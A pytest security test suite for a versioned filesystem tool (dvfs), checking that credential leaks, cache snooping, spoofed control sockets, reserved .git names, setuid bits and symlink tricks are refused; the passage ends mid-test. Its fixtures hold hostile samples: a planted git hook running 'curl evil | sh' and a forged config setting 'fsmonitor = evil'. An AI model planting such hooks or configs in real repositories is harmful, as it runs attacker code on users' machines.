"""What another local user, a stale record or a hostile version can do to a mount: nothing.

Each test reproduces an attack on the mount and the commands around it and checks
that it is refused: credentials in URLs and logs, a stale mount record naming an
unrelated process, the chunk cache read by another user, reserved names written
into the working tree or served by a version, and trees too deep to walk
recursively. Mounts are real (``tests.support.mount``); "another user" is a child
process that drops to uid 65534 before it acts.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import tempfile
import time
from collections.abc import Iterator
from dataclasses import asdict, replace
from pathlib import Path

import pytest

from daemon.logs import redact
from daemon.overlay.journal import pack
from tests.support.chunk_cache import chunks_on_disk
from tests.support.cli import assert_error, assert_ok, fsck_clean, run
from tests.support.mount import (
    commit,
    dvfs,
    force_unmount,
    home_env,
    in_mount_table,
    mounted,
    push_to,
    stop,
    url_work,
    write,
)
from tests.support.waiting import wait_for
from tests.test_worktree import Worktree, errno_of, wt_fixture
from vfs import ChunkRef, Entry, Kind, read_journal
from vfs._os.helper_process import process_start
from vfs.model.codec import encode_tree
from vfs.model.version_codec import encode_version
from vfs.mount import mounts
from vfs.ops.gc import COPY_SUFFIX
from vfs.repo.repository import Repository
from vfs.store.objects import ObjKind

__all__ = ["wt_fixture"]  # the fixture, for pytest
SECRET = "hunter2-secret-value"
NOBODY = 65534


@pytest.fixture(name="public")
def public_fixture() -> Iterator[Path]:
    """A directory any user may enter (pytest's own temporary directories are root's)."""
    path = Path(tempfile.mkdtemp(prefix="dvfs-public-"))
    os.chmod(path, 0o755)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def as_nobody(*argv: str) -> subprocess.CompletedProcess[bytes]:
    """Run a command as the unprivileged user ``nobody``."""
    drop = [f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
    return subprocess.run(["setpriv", *drop, *argv], capture_output=True, timeout=30, check=False)


def mount_options(path: Path) -> set[str]:
    """The mount's options and the filesystem's, from mountinfo."""
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        fields = line.split(" ")
        if fields[4] == str(path):
            return set(fields[5].split(",")) | set(line.split(" - ")[1].split(" ")[2].split(","))
    raise AssertionError(f"{path} is not mounted")


def mode(path: Path) -> int:
    return path.stat().st_mode & 0o7777


# ---------------------------------------------------------------------------- secrets


def test_credentials_in_urls_are_refused_and_never_printed(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    repo = Repository.init(root)
    with_password = f"http://user:{SECRET}@127.0.0.1:9"
    (tmp_path / "mnt").mkdir()
    attempts = [
        ("remote", "add", "o", "s3://bucket/p", "--endpoint-url", with_password),
        ("remote", "add", "o", f"s3://user:{SECRET}@bucket/p"),
        ("remote", "add", "o", f"file://user:{SECRET}@/srv/remote"),
        ("clone", "s3://bucket/p", str(tmp_path / "c"), "--endpoint-url", with_password),
        ("mount", "s3://bucket/p", str(tmp_path / "mnt"), "--endpoint-url", with_password),
        ("mount", f"s3://user:{SECRET}@bucket/p", str(tmp_path / "mnt")),
    ]
    for args in attempts:
        r = run(root, *args, env={"XDG_CACHE_HOME": str(tmp_path / "home")})
        line = assert_error(r, "carries a user name or password", "AWS_ACCESS_KEY_ID")
        assert "***@" in line
        assert SECRET not in r.out + r.err
    assert repo.config() == {}  # nothing was stored
    assert not (tmp_path / "c").exists()
    assert not list((tmp_path / "mnt").iterdir())

    # a remote stored by an older version: listed redacted, refused when used
    repo.save_config({"remotes": {"old": {"url": "s3://bucket/p", "endpoint_url": with_password}}})
    listed = assert_ok(run(root, "remote", "list"))
    assert "http://***@127.0.0.1:9" in listed.out
    as_json = assert_ok(run(root, "remote", "list", "--json"))
    assert as_json.json()[0]["endpoint_url"] == "http://***@127.0.0.1:9"
    used = run(root, "fetch", env={"AWS_ACCESS_KEY_ID": "k", "AWS_SECRET_ACCESS_KEY": "s" * 20})
    assert_error(used, "carries a user name or password")
    for r in (listed, as_json, used):
        assert SECRET not in r.out + r.err


def test_log_lines_are_redacted() -> None:
    """The second guard: whatever a library logs, no credential reaches the log."""
    line = (
        "Sending http request: <AWSPreparedRequest method=GET, url=http://u:pw@h:9/b/k, "
        "headers={'X-Amz-Date': b'20260101T000000Z', 'Authorization': b'AWS4-HMAC-SHA256 "
        "Credential=AKIDEXAMPLE/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, "
        "Signature=0123abcd', 'X-Amz-Security-Token': b'tokentoken'}> "
        "https://b.s3/k?X-Amz-Credential=AKIDEXAMPLE&X-Amz-Signature=feedbeef&x=1 "
        f"secret {SECRET}"
    )
    out = redact(line, [SECRET])
    for leaked in ("AKIDEXAMPLE", "0123abcd", "tokentoken", "feedbeef", ":pw@", SECRET):
        assert leaked not in out
    assert "X-Amz-Date': b'20260101T000000Z'" in out and "&x=1" in out
    assert redact("read b'data/a.csv': 4096 bytes at 0", [SECRET]) == (
        "read b'data/a.csv': 4096 bytes at 0"
    )


# ---------------------------------------------------------------------------- the chunk cache


def test_another_user_reads_no_private_file_through_the_cache(public: Path, tmp_path: Path) -> None:
    """With --allow-other the mount checks each file's mode; the cache must not undo that."""
    root = tmp_path / "repo"
    repo = Repository.init(root)
    write(root, "data/private.txt", b"for the owner alone\n", mode=0o600)
    write(root, "data/open.txt", b"for anyone\n", mode=0o644)
    commit(repo, "one")
    remote = tmp_path / "remote"
    push_to(repo, remote.as_uri())
    home = public / "home"
    old = home / "cache-mnt" / "chunks"  # left open by an older version
    old.mkdir(parents=True)
    os.chmod(old, 0o755)
    with mounted(remote.as_uri(), public / "mnt", home, "--allow-other") as m:
        data = m.path / "data"
        assert (data / "private.txt").read_bytes() == b"for the owner alone\n"  # now cached
        assert (data / "open.txt").read_bytes() == b"for anyone\n"
        chunks = m.cache / "chunks"
        wait_for(lambda: len(chunks_on_disk(chunks)) == 2, m.proc, "both chunks were cached")
        files = sorted(chunks.iterdir())
        assert mode(chunks) == 0o700 and chunks == old
        assert files and {mode(f) for f in files} == {0o600}
        assert as_nobody("cat", str(data / "open.txt")).stdout == b"for anyone\n"
        options = mount_options(m.path)
        assert {"nosuid", "nodev", "default_permissions", "allow_other"} <= options
        for path in [data / "private.txt", *files]:
            r = as_nobody("cat", str(path))
            assert r.returncode != 0 and b"Permission denied" in r.stderr, (path, r)
    # a cache directory dvfs makes is its user's alone, and so is the working tree's
    with mounted(remote.as_uri(), public / "mnt2", home, "--writable") as m:
        assert mode(m.cache) == 0o700
        (m.path / "data" / "new.txt").write_bytes(b"new\n")
        work = url_work(home, remote.as_uri())
        assert {mode(work.parent), mode(work)} == {0o700}

    # a cache directory of another user is refused: that user could read it, or swap
    # its files for links
    foreign = public / "theirs"
    foreign.mkdir(mode=0o700)
    os.chown(foreign, NOBODY, NOBODY)
    mnt3 = public / "mnt3"
    mnt3.mkdir()
    refused = dvfs(root, home, "mount", remote.as_uri(), str(mnt3), "--cache-dir", str(foreign))
    assert_error(refused, f"{foreign} belongs to uid 65534")
    assert not in_mount_table(mnt3)


# ---------------------------------------------------------------------------- the control socket

LISTENER = """
import os, socket, sys
s = socket.socket(socket.AF_UNIX)
path = os.path.join(sys.argv[1], f"ctl-{os.getpid()}.sock")
s.bind(path)
s.listen()
print(path, flush=True)
c, _ = s.accept()
print(repr(c.recv(4096)), flush=True)
"""


def test_the_cli_talks_only_to_the_daemon_of_the_mount_it_names(
    tmp_path: Path, public: Path
) -> None:
    """A .control link made by someone else leads nowhere (the CLI follows it blindly)."""
    root = tmp_path / "repo"
    repo = Repository.init(root)
    write(root, "data/a.txt", b"a\n")
    commit(repo, "one")
    home = tmp_path / "home"
    fake = public / "fake"  # a directory posing as a mount
    (fake / ".versions").mkdir(parents=True)
    link = fake / ".versions" / ".control"
    with mounted(str(root), tmp_path / "mnt", home) as m:
        # another service's socket
        with socket.socket(socket.AF_UNIX) as service:
            service.bind(str(tmp_path / "service.sock"))
            service.listen()
            os.symlink(tmp_path / "service.sock", link)
            r = dvfs(root, home, "snapshot", str(fake), "-m", "x")
            assert_error(r, "does not lead to a dvfs daemon's control socket")
            conn, _ = service.accept()
            with conn:
                assert conn.recv(4096) == b""  # nothing was sent to it
        # this user's own daemon of another mount: it refuses to act for this one
        os.unlink(link)
        os.symlink(os.readlink(m.versions / ".control"), link)
        (m.path / "data" / "b.txt").write_bytes(b"b\n")
        for args in (("snapshot", str(fake), "-m", "x"), ("status", str(fake))):
            assert_error(dvfs(root, home, *args), f"serves {m.path}, not {fake}")
        assert repo.history.version(repo.history.head_id() or b"").number == 1
        # a process of another user, listening under a daemon's name
        drop = [f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
        theirs = public / "theirs"
        theirs.mkdir()
        os.chown(theirs, NOBODY, NOBODY)
        with subprocess.Popen(
            ["setpriv", *drop, "/usr/bin/python3", "-c", LISTENER, str(theirs)],
            stdout=subprocess.PIPE,
        ) as other:
            assert other.stdout is not None
            os.unlink(link)
            os.symlink(other.stdout.readline().decode().strip(), link)
            assert_error(dvfs(root, home, "status", str(fake)), "uid 65534", "refusing")
            assert other.stdout.readline() == b"b''\n"
            other.wait(timeout=10)
        assert_ok(dvfs(root, home, "status", str(m.path)))  # the right one still answers


# ---------------------------------------------------------------------------- stale mount records


@pytest.fixture(name="sleeper")
def sleeper_fixture() -> Iterator[subprocess.Popen[bytes]]:
    """An unrelated process that a stale record may come to name."""
    proc = subprocess.Popen(["sleep", "600"])
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait()


def test_umount_never_signals_a_process_that_took_a_dead_daemons_pid(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sleeper: subprocess.Popen[bytes]
) -> None:
    root = tmp_path / "repo"
    repo = Repository.init(root)
    write(root, "data/a.txt", b"a\n")
    commit(repo, "one")
    home, mnt = tmp_path / "home", tmp_path / "mnt"
    for key, value in home_env(home).items():  # this process reads the records too
        monkeypatch.setenv(key, value)
    mnt.mkdir()
    try:
        assert_ok(dvfs(root, home, "mount", str(mnt)))
        rec = mounts.read_record(mnt)
        assert rec is not None and mounts.daemon_alive(rec)
        assert Path(rec.cache_dir, "daemon.log").stat().st_mode & 0o777 == 0o600
        assert mounts.record_path(mnt).parent.stat().st_mode & 0o777 == 0o700
        os.kill(rec.pid, signal.SIGKILL)
        while process_start(rec.pid) is not None:
            time.sleep(0.01)
        # the daemon's pid now names another process, as after pid reuse
        mounts.write_record(replace(rec, pid=sleeper.pid))
        (row,) = [r for r in assert_ok(dvfs(root, home, "mounts", "--json")).json()
                  if r["mountpoint"] == str(mnt)]  # fmt: skip
        assert row["state"] == "dead"
        assert_error(dvfs(root, home, "mount", str(mnt)), "daemon that died")
        assert_ok(dvfs(root, home, "umount", str(mnt)))
        assert not in_mount_table(mnt)
        assert sleeper.poll() is None
        assert mounts.read_record(mnt) is None

        # a record of another boot, naming a process that started at the same tick
        start = process_start(sleeper.pid)
        assert start is not None
        mounts.write_record(replace(rec, pid=sleeper.pid, start=start, boot="an-earlier-boot"))
        assert_error(dvfs(root, home, "umount", str(mnt)), "is not mounted")
        assert sleeper.poll() is None
        assert mounts.read_record(mnt) is None
        # a record where older versions kept them is not read at all
        legacy = home / "dvfs" / "mounts" / mounts.record_path(mnt).name
        legacy.parent.mkdir(parents=True)
        legacy.write_text(json.dumps({**asdict(rec), "v": 1, "pid": sleeper.pid}))
        assert_error(dvfs(root, home, "umount", str(mnt)), "is not mounted")
        assert sleeper.poll() is None
    finally:
        force_unmount(mnt)


def test_records_go_only_to_a_private_runtime_directory(tmp_path: Path) -> None:
    """Another user who made the directory first could plant records or read them."""
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    planted = runtime / "dvfs"
    planted.mkdir(mode=0o755)
    env = {"XDG_RUNTIME_DIR": str(runtime), "XDG_CACHE_HOME": str(tmp_path / "home")}
    assert_error(run(tmp_path, "mounts", env=env), f"{planted} is not a private directory")
    os.chmod(planted, 0o700)
    os.chown(planted, NOBODY, NOBODY)
    assert_error(run(tmp_path, "mounts", env=env), "owner uid 65534")
    os.chown(planted, 0, 0)
    assert_ok(run(tmp_path, "mounts", env=env))
    assert planted.stat().st_mode & 0o777 == 0o700


# ---------------------------------------------------------------------------- reserved names


def test_reserved_names_cannot_enter_the_working_tree(wt: Worktree) -> None:
    """EPERM for every way a name is made, at any depth, in every spelling git refuses."""
    d = wt.data
    (d / "sub" / "hooks").mkdir()
    names = [".git", ".GIT", ".dvfs", ".Dvfs", ".git.", ".git::$INDEX_ALLOCATION", "GIT~1",
             ".g\u200cit", "dvfs~1"]  # fmt: skip
    for where in (wt.mnt, d, d / "sub" / "deep"):
        for name in names:
            target = where / name
            assert errno_of(os.mkdir, target) == errno.EPERM, target
            assert errno_of(os.open, target, os.O_WRONLY | os.O_CREAT, 0o644) == errno.EPERM
            assert errno_of(os.symlink, "a.txt", target) == errno.EPERM
            assert errno_of(os.mknod, target, stat.S_IFREG | 0o644) == errno.EPERM
            assert errno_of(os.link, d / "a.txt", target) == errno.EPERM
            assert errno_of(os.rename, d / "a.txt", target) == errno.EPERM
            assert errno_of(os.rename, d / "sub" / "hooks", target) == errno.EPERM
    # .versions: refused at the top (where the version list is), an ordinary name below
    assert errno_of(os.rename, d / "sub" / "hooks", wt.mnt / ".versions") == errno.EPERM
    assert errno_of(os.mkdir, wt.mnt / ".versions") == errno.EEXIST
    assert os.listdir(wt.mnt / ".versions")[0] == "v1"
    (d / ".versions").write_bytes(b"allowed here\n")
    (wt.local / ".versions").write_bytes(b"allowed here\n")
    (wt.local / "sub" / "hooks").mkdir()
    # git cannot make a repository here, nor point one here (its .git is a file then)
    for args in (["init", "-q"], ["init", "-q", "--separate-git-dir", str(wt.home / "g")]):
        proc = subprocess.run(["git", *args, str(d / "proj")], capture_output=True, check=False)
        assert proc.returncode != 0 and b"Operation not permitted" in proc.stderr
        shutil.rmtree(d / "proj", ignore_errors=True)
    n = wt.snapshot("no repository configuration got in")
    wt.check(n)


def _journal(work: Path) -> Path:
    (path,) = work.glob("journal.*")
    return path


def test_a_working_tree_from_before_the_fix_holding_git_is_not_snapshot(wt: Worktree) -> None:
    """A journal may name .git (made before names were checked): MNT shows it, snapshot refuses."""
    head = Repository(wt.repo).history.head_id()
    (wt.data / "hooks").mkdir()
    (wt.data / "hooks" / "pre-commit").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    stop(wt.mount)
    work = wt.repo / ".dvfs" / "worktrees" / "main"
    records = read_journal(_journal(work).read_bytes(), True).records
    (d_nid, nid) = next((r[1], r[3]) for r in records if r[0] == "L" and r[2] == b"hooks")
    with open(_journal(work), "ab") as f:  # as an older daemon would have journaled it
        f.write(pack([["U", d_nid, b"hooks"], ["L", d_nid, b".git", nid]]))
    with mounted(str(wt.repo), wt.mnt, wt.home) as m:
        assert (wt.data / ".git" / "pre-commit").read_bytes().startswith(b"#!/bin/sh")
        line = assert_error(wt.dvfs("snapshot", str(wt.mnt), "-m", "x"), "data/.git")
        assert "rename or remove it" in line
        assert Repository(wt.repo).history.head_id() == head  # nothing recorded
        os.rename(wt.data / ".git", wt.data / "hooks")  # renaming it away is allowed
        shutil.copytree(wt.data / "hooks", wt.local / "hooks")
        wt.mount = m
        wt.check(wt.snapshot("hooks, not .git"))


def test_status_of_a_kernel_working_tree_holding_reserved_names_says_snapshot_refuses(
    tmp_path: Path,
) -> None:
    """The kernel's overlay cannot refuse .git or .dvfs: status listed the files in such
    a directory as added, and every name not versionable as "kept in MNT only", as if
    a snapshot would leave them out; snapshot refuses until they are gone."""
    root, home, mnt = tmp_path / "repo", tmp_path / "home", tmp_path / "mnt"
    repo = Repository.init(root)
    write(root, "d/a", b"a\n")
    commit(repo, "one", top="d")
    with mounted(str(root), mnt, home, overlay="kernel"):
        (mnt / "d" / ".git").mkdir()
        (mnt / "d" / ".git" / "config").write_bytes(b"[core]\n")
        (mnt / ".dvfs").mkdir()
        os.mkfifo(mnt / "d" / "fifo")
        (mnt / "d" / "b").write_bytes(b"b\n")
        got = assert_ok(dvfs(root, home, "status", str(mnt), "--json")).json()
        assert got["added"] == ["d/b"], got
        assert got["unversionable"] == [".dvfs", "d/.git", "d/fifo"], got
        shown = assert_ok(dvfs(root, home, "status", str(mnt))).out.splitlines()
        fifo = shown.index("  not versionable: d/fifo")
        assert "kept in MNT only" in shown[fifo - 1], shown
        reserved = shown.index("  not versionable: .dvfs")
        assert "a snapshot is refused until they are renamed" in shown[reserved - 1], shown
        assert shown[reserved + 1] == "  not versionable: d/.git", shown
        assert_error(dvfs(root, home, "snapshot", str(mnt), "-m", "x"), ".dvfs and 1 more")
        shutil.rmtree(mnt / "d" / ".git")
        (mnt / ".dvfs").rmdir()
        assert_ok(dvfs(root, home, "snapshot", str(mnt), "-m", "b"))
    fsck_clean(root)


def _forge(repo: Repository, head: bytes, extra: dict[bytes, Entry]) -> bytes:
    """A version of ``head`` with root entries added, stored past the codec's checks."""
    hist, store = repo.history, repo.store
    v = hist.version(head)
    entries = {e.name: e for e in hist.tree(v.tree).entries} | extra
    root, _ = store.put(ObjKind.TREE, encode_tree(list(entries.values())))
    made = v._replace(tree=root, parents=(head,), number=v.number + 1, message="forged")
    oid, _ = store.put(ObjKind.VERSION, encode_version(made))
    store.flush()
    return oid


def _dir_of(repo: Repository, entries: list[Entry]) -> bytes:
    oid, _ = repo.store.put(ObjKind.TREE, encode_tree(entries))
    return oid


@pytest.mark.parametrize("mode", ["--writable", "--read-only"])
def test_versions_holding_reserved_names_are_refused_by_the_mount(
    tmp_path: Path, mode: str
) -> None:
    root = tmp_path / "repo"
    repo = Repository.init(root)
    write(root, "data/a.txt", b"a\n")
    base = commit(repo, "one")
    chunk, _ = repo.store.put(ObjKind.CHUNK, b"[core]\n\tfsmonitor = evil\n")
    config = Entry(b"config", Kind.FILE, 0o644, 25, 0, chunk, (ChunkRef(chunk, 25),))
    git_dir = _dir_of(repo, [config])
    evil = _dir_of(repo, [Entry(b".git", Kind.DIR, 0o755, 25, 0, subtree=git_dir)])
    listed = Entry(b"v1", Kind.FILE, 0o644, 25, 0, chunk, (ChunkRef(chunk, 25),))
    fake = _dir_of(repo, [listed])
    head = _forge(repo, base, {
        b"evil": Entry(b"evil", Kind.DIR, 0o755, 25, 0, subtree=evil),
        b".versions": Entry(b".versions", Kind.DIR, 0o755, 25, 0, subtree=fake),
    })  # fmt: skip
    top = _forge(repo, base, {b".git": Entry(b".git", Kind.DIR, 0o755, 25, 0, subtree=git_dir)})
    repo.refs.update("refs/heads/main", head, base)
    repo.refs.update("refs/tags/top", top, None)
    with mounted(str(root), tmp_path / "mnt", tmp_path / "home", mode) as m:
        assert sorted(os.listdir(m.path)) == ["data", "evil"]  # readdirplus of MNT
        assert os.stat(m.path / ".versions").st_ino == 2  # still the version list
        assert os.listdir(m.versions)[:3] == ["v1", "v2", "latest"]
        for bad in (m.path / "evil", m.versions / "v2" / "evil", m.versions / "tags" / "top"):
            assert errno_of(os.listdir, bad) == errno.EIO, bad
        assert (m.path / "data" / "a.txt").read_bytes() == b"a\n"  # the rest still reads
        assert (m.versions / "v1" / "data" / "a.txt").read_bytes() == b"a\n"
        assert m.proc.poll() is None
        assert "reserved name .git" in m.log_text()


@pytest.mark.parametrize("overlay", ["kernel", "daemon"])
def test_setuid_bits_never_reach_the_mount(tmp_path: Path, overlay: str) -> None:
    """A version may carry 04755 (a hostile remote); MNT shows and records 0755.

    A setuid bit set in MNT stays there, as on any filesystem (where it has no effect:
    the mount is nosuid), and no version records it.
    """
    root = tmp_path / "repo"
    repo = Repository.init(root)
    write(root, "data/a.txt", b"a\n")
    base = commit(repo, "one")
    chunk, _ = repo.store.put(ObjKind.CHUNK, b"#!/bin/sh\nid\n")
    tool = Entry(b"tool", Kind.FILE, 0o6755, 13, 0, chunk, (ChunkRef(chunk, 13),))
    head = _forge(repo, base, {b"tool": tool})
    repo.refs.update("refs/heads/main", head, base)
    home = tmp_path / "home"
    with mounted(str(root), tmp_path / "mnt", home, overlay=overlay) as m:
        assert {mode(m.path / "tool"), mode(m.versions / "v2" / "tool")} == {0o755}
        assert "nosuid" in mount_options(m.path)
        os.chmod(m.path / "data" / "a.txt", 0o4755)
        assert mode(m.path / "data" / "a.txt") == 0o4755
        assert_ok(dvfs(root, home, "snapshot", str(m.path), "-m", "chmod"))
    hist = repo.history
    v3 = hist.version(hist.head_id() or b"")
    modes = {e.name: e.mode for e in hist.tree(v3.tree).entries}
    assert modes[b"tool"] == 0o755
    assert hist.lookup(v3.tree, b"data/a.txt").mode == 0o755  # type: ignore[union-attr]


# ---------------------------------------------------------------------------- deep trees

DEPTH = 1500  # past Python's recursion limit (1,000); the path still fits PATH_MAX


def test_a_tree_1500_levels_deep_is_walked_without_recursion(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    repo = Repository.init(root)
    write(root, "data/a.txt", b"a\n")
    commit(repo, "one")
    home = tmp_path / "home"
    deep = "data/" + "/".join(["d"] * DEPTH)
    with mounted(str(root), tmp_path / "mnt", home) as m:
        subprocess.run(["mkdir", "-p", str(m.path / deep)], check=True)  # os.makedirs recurses
        (m.path / deep / "f").write_bytes(b"at the bottom\n")
        got = assert_ok(dvfs(root, home, "status", str(m.path), "--json")).json()
        assert got["added"] == ["data/d/"]
        assert_ok(dvfs(root, home, "snapshot", str(m.path), "-m", "deep"))
        assert (m.versions / "v2" / deep / "f").read_bytes() == b"at the bottom\n"
        (m.path / "data" / "b.txt").write_bytes(b"b\n")  # the deep tree is reused by id
        assert_ok(dvfs(root, home, "snapshot", str(m.path), "-m", "beside it"))
        subprocess.run(["rm", "-rf", str(m.path / "data" / "d")], check=True)
        got = assert_ok(dvfs(root, home, "status", str(m.path), "--json")).json()
        assert got["deleted"] == ["data/d/"]
        assert_ok(dvfs(root, home, "snapshot", str(m.path), "-m", "gone"))
        assert m.proc.poll() is None
    remote = tmp_path / "remote"
    push_to(repo, remote.as_uri())
    with mounted(remote.as_uri(), tmp_path / "url", home, "--writable") as m:
        assert (m.versions / "v3" / deep / "f").read_bytes() == b"at the bottom\n"
        assert sorted(os.listdir(m.path / "data")) == ["a.txt", "b.txt"]
    fsck_clean(root)


@pytest.mark.parametrize("overlay", ["kernel", "daemon"])
def test_a_name_longer_than_a_disk_holds_cannot_enter_the_working_tree(
    tmp_path: Path, overlay: str
) -> None:
    """ENAMETOOLONG, as on a disk: no version could hold the name nor a checkout write it."""
    root, home, mnt = tmp_path / "repo", tmp_path / "home", tmp_path / "mnt"
    repo = Repository.init(root)
    write(root, "d/a", b"a\n")
    commit(repo, "one", top="d")
    with mounted(str(root), mnt, home, overlay=overlay):
        d, long = mnt / "d", "n" * 256
        assert errno_of(os.open, d / long, os.O_WRONLY | os.O_CREAT, 0o644) == errno.ENAMETOOLONG
        assert errno_of(os.mkdir, d / long) == errno.ENAMETOOLONG
        assert errno_of(os.symlink, "a", d / long) == errno.ENAMETOOLONG
        assert errno_of(os.link, d / "a", d / long) == errno.ENAMETOOLONG
        assert errno_of(os.rename, d / "a", d / long) == errno.ENAMETOOLONG
        (d / ("n" * 255)).write_bytes(b"longest\n")
        assert_ok(dvfs(root, home, "snapshot", str(mnt), "-m", "the longest name"))
        assert (mnt / ".versions" / "v2" / "d" / ("n" * 255)).read_bytes() == b"longest\n"
    fsck_clean(root)


def test_a_working_tree_from_before_the_fix_holding_a_long_name_is_not_snapshot(
    tmp_path: Path,
) -> None:
    """A journal may name a file longer than 255 bytes (made before names were checked):
    status lists it as not versionable and snapshot refuses, naming it, until it is renamed."""
    root, home, mnt = tmp_path / "repo", tmp_path / "home", tmp_path / "mnt"
    repo = Repository.init(root)
    write(root, "d/a", b"a\n")
    commit(repo, "one", top="d")
    long = b"n" * 256
    with mounted(str(root), mnt, home, overlay="daemon") as m:
        (mnt / "d" / "keep").write_bytes(b"kept\n")
        stop(m)
    work = root / ".dvfs" / "worktrees" / "main"
    records = read_journal(_journal(work).read_bytes(), True).records
    (d_nid, nid) = next((r[1], r[3]) for r in records if r[0] == "L" and r[2] == b"keep")
    with open(_journal(work), "ab") as f:  # as an older daemon would have journaled it
        f.write(pack([["U", d_nid, b"keep"], ["L", d_nid, long, nid]]))
    with mounted(str(root), mnt, home, overlay="daemon"):
        got = assert_ok(dvfs(root, home, "status", str(mnt), "--json")).json()
        assert got["unversionable"] == ["d/" + "n" * 256]
        shown = assert_ok(dvfs(root, home, "status", str(mnt))).out.splitlines()
        heading = shown.index("  not versionable: d/" + "n" * 256) - 1
        assert "names longer than 255 bytes" in shown[heading], shown
        line = assert_error(dvfs(root, home, "snapshot", str(mnt), "-m", "x"), "d/nnnn")
        assert "longer than 255 bytes" in line and "rename or remove it" in line, line
        os.rename(mnt / "d" / os.fsdecode(long), mnt / "d" / "keep")
        assert_ok(dvfs(root, home, "snapshot", str(mnt), "-m", "kept"))
        assert (mnt / ".versions" / "v2" / "d" / "keep").read_bytes() == b"kept\n"
    fsck_clean(root)


@pytest.mark.parametrize("linked", ["worktrees/main", "worktrees"])
@pytest.mark.parametrize("overlay", ["daemon", "kernel"])
def test_a_working_tree_linked_out_of_the_repository_is_refused(
    tmp_path: Path, linked: str, overlay: str
) -> None:
    """``.dvfs/worktrees/main`` (or ``worktrees``) a link to a directory elsewhere: the
    mount made its journal and data there, and its first snapshot emptied that
    directory's data/. It is refused, and nothing there is touched."""
    root, home, mnt = tmp_path / "repo", tmp_path / "home", tmp_path / "mnt"
    repo = Repository.init(root)
    write(root, "d/a", b"a\n")
    commit(repo, "one", top="d")
    victim = tmp_path / "victim"
    (victim / "main" / "data").mkdir(parents=True)
    (victim / "main" / "data" / "important.txt").write_bytes(b"precious\n")
    os.chmod(victim / "main", 0o755)
    where = root / ".dvfs" / linked
    where.parent.mkdir(exist_ok=True)
    where.symlink_to(victim / "main" if linked.endswith("main") else victim)
    mnt.mkdir()
    r = dvfs(tmp_path, home, "mount", str(root), str(mnt), "--overlay", overlay)
    if in_mount_table(mnt):
        force_unmount(mnt)
    assert_error(r, f"{where} is a symbolic link", "remove the link", code=1)
    assert sorted(os.listdir(victim / "main")) == ["data"]
    assert (victim / "main" / "data" / "important.txt").read_bytes() == b"precious\n"
    assert stat.S_IMODE(os.stat(victim / "main").st_mode) == 0o755
    where.unlink()
    with mounted(str(root), mnt, home, overlay=overlay):
        (mnt / "d" / "b").write_bytes(b"b\n")
        assert_ok(dvfs(root, home, "snapshot", str(mnt), "-m", "two"))
    assert (victim / "main" / "data" / "important.txt").read_bytes() == b"precious\n"
    fsck_clean(root)


def test_pins_linked_out_of_the_repository_are_never_cleaned_there(tmp_path: Path) -> None:
    """``.dvfs/pins`` (where a mount pins the versions it shows) a link to a directory
    elsewhere: `dvfs gc` removed every file there that no process had locked, as stale
    pins. Such a link is refused, and in a real pins directory only pins are removed."""
    root, home, mnt = tmp_path / "repo", tmp_path / "home", tmp_path / "mnt"
    repo = Repository.init(root)
    write(root, "d/a", b"a\n")
    commit(repo, "one", top="d")
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "thesis.txt").write_bytes(b"years of work\n")
    pins = root / ".dvfs" / "pins"
    shutil.rmtree(pins, ignore_errors=True)
    pins.symlink_to(docs)
    assert_error(dvfs(root, home, "gc"), f"{pins} is a symbolic link", code=1)
    mnt.mkdir()
    r = dvfs(tmp_path, home, "mount", str(root), str(mnt), "--read-only")
    if in_mount_table(mnt):
        force_unmount(mnt)
    assert_error(r, f"{pins} is a symbolic link", code=1)
    assert os.listdir(docs) == ["thesis.txt"]
    pins.unlink()
    pins.mkdir()
    (pins / "notes.txt").write_bytes(b"not a pin\n")
    stale = pins / f"{2**22 + 1}-{'0' * 16}"  # a pin whose process is gone
    stale.write_bytes(b"dvfs pin 1\nsince 0\nwriting 0\n")
    assert_ok(dvfs(root, home, "gc"))
    assert os.listdir(pins) == ["notes.txt"]
    with mounted(str(root), mnt, home, "--read-only"):
        assert (mnt / "d" / "a").read_bytes() == b"a\n"
    fsck_clean(root)


@pytest.mark.parametrize(
    ("name", "overlay"),
    [("upper", "kernel"), ("scratch", "kernel"), ("data", "daemon"), ("journal.1", "daemon")],
)
def test_a_link_inside_a_working_tree_is_refused(tmp_path: Path, name: str, overlay: str) -> None:
    """A work directory holding a link (its upper layer, the kernel's scratch directory,
    the data or the journal elsewhere): the mount wrote there, and overlayfs empties a
    scratch directory. It is refused, and nothing where the link points is touched."""
    root, home, mnt = tmp_path / "repo", tmp_path / "home", tmp_path / "mnt"
    repo = Repository.init(root)
    write(root, "d/a", b"a\n")
    commit(repo, "one", top="d")
    victim = tmp_path / "victim"
    (victim / "work").mkdir(parents=True)
    (victim / "work" / "keep.txt").write_bytes(b"precious\n")
    (victim / "keep.txt").write_bytes(b"precious\n")
    work = root / ".dvfs" / "worktrees" / "main"
    work.mkdir(parents=True)
    (work / name).symlink_to(victim / "keep.txt" if name.startswith("journal") else victim)
    mnt.mkdir()
    r = dvfs(tmp_path, home, "mount", str(root), str(mnt), "--overlay", overlay)
    if in_mount_table(mnt):
        force_unmount(mnt)
    assert_error(r, "holds the symbolic link", name, "remove it", code=1)
    assert sorted(os.listdir(victim)) == ["keep.txt", "work"]
    assert os.listdir(victim / "work") == ["keep.txt"]
    assert (victim / "keep.txt").read_bytes() == b"precious\n"
    (work / name).unlink()
    with mounted(str(root), mnt, home, overlay=overlay):
        (mnt / "d" / "b").write_bytes(b"b\n")
        assert_ok(dvfs(root, home, "snapshot", str(mnt), "-m", "two"))
    fsck_clean(root)


@pytest.mark.parametrize("linked", ["changes", "changes/ab"])
def test_gc_deletes_nothing_through_a_link_in_the_changes_records(
    tmp_path: Path, linked: str
) -> None:
    """``.dvfs/changes`` (what a mount's .versions/meta and `dvfs show` read) or one of its
    shards a link to a directory elsewhere: `dvfs gc` deleted every file there as a
    stale record. Nothing is deleted through the link."""
